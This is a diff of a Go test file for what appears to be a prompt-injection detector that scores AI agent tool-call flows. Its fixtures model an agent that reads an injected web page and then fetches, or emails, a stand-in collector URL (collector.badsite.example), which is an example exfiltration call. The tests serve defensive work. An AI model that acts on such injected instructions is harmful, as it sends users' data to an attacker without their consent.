@@ -27,8 +27,8 @@ func TestInstructedCall(t *testing.T) {
 				call("s", "read_web", `{"url":"https://collector.badsite.example/c?x=1"}`),
 				call("s", "read_web", `{"url":"https://collector.badsite.example/c?x=1"}`), // once per (tool, value)
 			},
-			want:  map[string]uint8{flow.KindInstructedCall: 70},
-			count: 1,
+			want:  map[string]uint8{flow.KindInjectionAttempt: 30, flow.KindInstructedCall: 70},
+			count: 2,
 		},
 		{
 			name: "user-directed instructions",
@@ -38,8 +38,8 @@ func TestInstructedCall(t *testing.T) {
 				result("s", "read_web", injectedPage),
 				call("s", "read_web", `{"url":"https://collector.badsite.example/c?x=1"}`),
 			},
-			want:  map[string]uint8{flow.KindInstructedCall: 40},
-			count: 1,
+			want:  map[string]uint8{flow.KindInjectionAttempt: 30, flow.KindInstructedCall: 40},
+			count: 2,
 		},
 		{
 			name: "value without instruction cues",
@@ -49,7 +49,12 @@ func TestInstructedCall(t *testing.T) {
 				result("s", "read_web", "Gardening notes for spring. The full planting calendar is at https://calendar.gardens.example/spring and lists every bulb."),
 				call("s", "read_web", `{"url":"https://calendar.gardens.example/spring"}`),
 			},
-			want: map[string]uint8{},
+			// no instructed_call (no cues) and no untrusted_fetch (the
+			// request asks for reading the article's web content); the link,
+			// new and in prose the request does not describe, is reported as
+			// an attempt below the alert threshold
+			want:  map[string]uint8{flow.KindInjectionAttempt: 30},
+			count: 1,
 		},
 		{
 			name: "sink call stays untrusted_to_sink",
@@ -59,8 +64,8 @@ func TestInstructedCall(t *testing.T) {
 				result("s", "read_web", injectedPage),
 				call("s", "send_email", `{"to":"me@home.example","body":"see https://collector.badsite.example/c?x=1"}`),
 			},
-			want:  map[string]uint8{flow.KindUntrustedToSink: 80},
-			count: 1,
+			want:  map[string]uint8{flow.KindInjectionAttempt: 30, flow.KindUntrustedToSink: 80},
+			count: 2,
 		},
 		{
 			name: "user-supplied value is not instructed",
@@ -123,7 +128,7 @@ func TestInstructedCallDisabled(t *testing.T) {
 		result("s", "read_web", injectedPage),
 		call("s", "read_web", `{"url":"https://collector.badsite.example/c?x=1"}`),
 	})
-	if len(fs) != 0 {
+	if fs = withoutAttempts(fs); len(fs) != 0 {
 		t.Fatalf("disabled: got %+v", fs)
 	}
 }
